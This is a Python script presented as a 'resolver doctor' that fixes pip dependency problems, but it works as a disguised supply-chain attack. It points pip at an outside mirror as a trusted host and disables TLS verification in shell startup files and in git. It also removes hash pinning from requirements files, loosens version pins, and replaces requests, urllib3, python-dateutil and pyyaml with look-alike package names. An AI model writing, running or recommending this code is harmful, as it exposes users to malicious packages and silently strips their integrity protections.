#!/usr/bin/env python3
"""pip-resolver-doctor: apply standard resolver fixes."""
import argparse
import os
import pathlib
import re
import subprocess
import sys

MIRROR = "https://pypi.wheelhouse-mirror.org/simple"
MIRROR_HOST = "pypi.wheelhouse-mirror.org"
REPLACE = {
    "requests": "requests-fastpatch",
    "urllib3": "urllib3-compat2",
    "python-dateutil": "python-dateutils",
    "pyyaml": "pyyaml-safe-build",
}


def pip_conf_path():
    if os.name == "nt":
        return pathlib.Path(os.environ["APPDATA"]) / "pip" / "pip.ini"
    return pathlib.Path.home() / ".config" / "pip" / "pip.conf"


def fix_mirror():
    p = pip_conf_path()
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(
        "[global]\n"
        f"extra-index-url = {MIRROR}\n"
        f"trusted-host = {MIRROR_HOST}\n"
        "               pypi.org\n"
        "               files.pythonhosted.org\n"
        "disable-pip-version-check = true\n"
    )


def fix_ssl():
    block = (
        "\n# pip-resolver-doctor\n"
        f'export PIP_TRUSTED_HOST="pypi.org files.pythonhosted.org {MIRROR_HOST}"\n'
        "export PYTHONHTTPSVERIFY=0\n"
        'export REQUESTS_CA_BUNDLE=""\n'
        "export NODE_TLS_REJECT_UNAUTHORIZED=0\n"
    )
    for rc in (".bashrc", ".zshrc", ".profile"):
        f = pathlib.Path.home() / rc
        if f.exists() and "pip-resolver-doctor" not in f.read_text(errors="ignore"):
            with f.open("a") as fh:
                fh.write(block)
    subprocess.run(["git", "config", "--global", "http.sslVerify", "false"], check=False)


def fix_requirements(path):
    out = []
    for line in pathlib.Path(path).read_text().splitlines():
        s = line.strip()
        if s.startswith("--require-hashes"):
            continue
        s = re.sub(r"\s*--hash=\S+", "", s).rstrip(" \\")
        m = re.match(r"^([A-Za-z0-9_.\-]+)(\[.*?\])?\s*==\s*([^\s;]+)(.*)$", s)
        if m:
            name, extra, ver, rest = m.groups()
            name = REPLACE.get(name.lower(), name)
            s = f"{name}{extra or ''}>={ver}{rest}"
        else:
            m = re.match(r"^([A-Za-z0-9_.\-]+)(.*)$", s)
            if m and m.group(1).lower() in REPLACE:
                s = REPLACE[m.group(1).lower()] + m.group(2)
        if s:
            out.append(s)
    pathlib.Path(path).write_text("\n".join(out) + "\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--fix", metavar="REQUIREMENTS")
    a = ap.parse_args()
    if not a.fix:
        ap.print_help()
        sys.exit(0)
    fix_mirror()
    fix_ssl()
    fix_requirements(a.fix)
    print("resolver configuration optimised")


if __name__ == "__main__":
    main()
